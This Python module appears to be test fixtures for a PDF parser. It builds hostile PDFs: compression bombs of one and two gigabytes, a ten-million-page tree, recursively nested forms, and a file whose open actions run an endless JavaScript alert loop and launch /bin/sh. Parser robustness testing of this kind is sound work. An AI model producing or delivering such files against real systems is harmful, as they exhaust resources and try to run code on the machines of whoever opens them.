"""Documents made to do harm: small on the disk, endless once they are opened."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable, Mapping

import pikepdf
from parsers.papers import printed

_MIB = 1 << 20


def _file(objects: Mapping[int, bytes]) -> bytes:
    """A PDF of numbered objects; number 1 is its catalogue."""
    out = b"%PDF-1.7\n"
    places = {}
    for number, content in sorted(objects.items()):
        places[number] = len(out)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % places[number] for number in sorted(places))
    end = len(out)
    count = len(objects) + 1
    return out + b"xref\n0 %d\n0000000000 65535 f \n%btrailer\n<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF\n" % (
        count, table, count, end,
    )  # fmt: skip


def _stream(content: bytes, about: bytes = b"") -> bytes:
    return b"<<%b/Length %d>>\nstream\n%b\nendstream" % (about, len(content), content)


def _page(resources: bytes, content: bytes, more: Mapping[int, bytes]) -> bytes:
    """A document of one page."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<<%b>>/Contents 4 0 R>>" % resources
    return _file({
        1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>", 3: page, 4: _stream(content),
        **more,
    })  # fmt: skip


def _zeros(size: int) -> bytes:
    """So many zeros, packed twice: two gigabytes become a few kilobytes. A mebibyte is packed once and repeated."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = packer.compress(bytes(_MIB)) + packer.flush(zlib.Z_FULL_FLUSH)
    check = (size % 65521) << 16 | 1  # Adler-32 of zeros
    inner = b"\x78\xda" + piece * (size // _MIB) + b"\x03\x00" + check.to_bytes(4, "big")
    return zlib.compress(inner, 9)


def picture_of_two_gigabytes() -> bytes:
    """A picture of 26,000 by 26,000 points."""
    about = b"/Type/XObject/Subtype/Image/Width 26000/Height 26000/ColorSpace/DeviceRGB/BitsPerComponent 8"
    packed = _stream(_zeros(2048 * _MIB), about + b"/Filter[/FlateDecode/FlateDecode]")
    return _page(b"/XObject<</P 5 0 R>>", b"q 595 0 0 842 0 0 cm /P Do Q", {5: packed})


def content_of_a_gigabyte() -> bytes:
    """What is to be drawn on the page is a gigabyte of nothing."""
    return _file({
        1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>",
        4: _stream(_zeros(1024 * _MIB), b"/Filter[/FlateDecode/FlateDecode]"),
    })  # fmt: skip


def ten_million_pages() -> bytes:
    """Seven floors of ten doors, each door the same: ten million pages in two kilobytes."""
    objects = {1: b"<</Type/Catalog/Pages 2 0 R>>"}
    for floor in range(7):
        kids = b"%d 0 R " % (floor + 3) * 10
        objects[floor + 2] = b"<</Type/Pages/Kids[%b]/Count %d>>" % (kids, 10 ** (7 - floor))
    objects[9] = b"<</Type/Page/Parent 8 0 R/MediaBox[0 0 595 842]>>"
    return _file(objects)


def drawn_ten_billion_times() -> bytes:
    """Forms within forms: ten floors, each drawn ten times by the one above."""
    draw = b"/F Do " * 10
    floors = {
        number: _stream(draw, b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</F %d 0 R>>>>"
                        % (number + 1))
        for number in range(5, 15)
    }  # fmt: skip
    last = _stream(b"0 0 595 842 re f " * 20, b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]")
    return _page(b"/XObject<</F 5 0 R>>", draw, {**floors, 15: last})


ALL: tuple[Callable[[], bytes], ...] = (
    picture_of_two_gigabytes, content_of_a_gigabyte, ten_million_pages, drawn_ten_billion_times,
)  # fmt: skip


def with_scripts() -> bytes:
    """A document that would run a script, start a program and open an address when it is opened."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(printed("A letter"))) as pdf:
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("while(true){app.alert(1)}"))
        launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("/bin/sh"))
        pdf.Root.OpenAction = script
        pdf.Root.AA = pikepdf.Dictionary(WC=script)
        pdf.pages[0].obj.AA = pikepdf.Dictionary(O=launch)
        pdf.save(out)
    return out.getvalue()
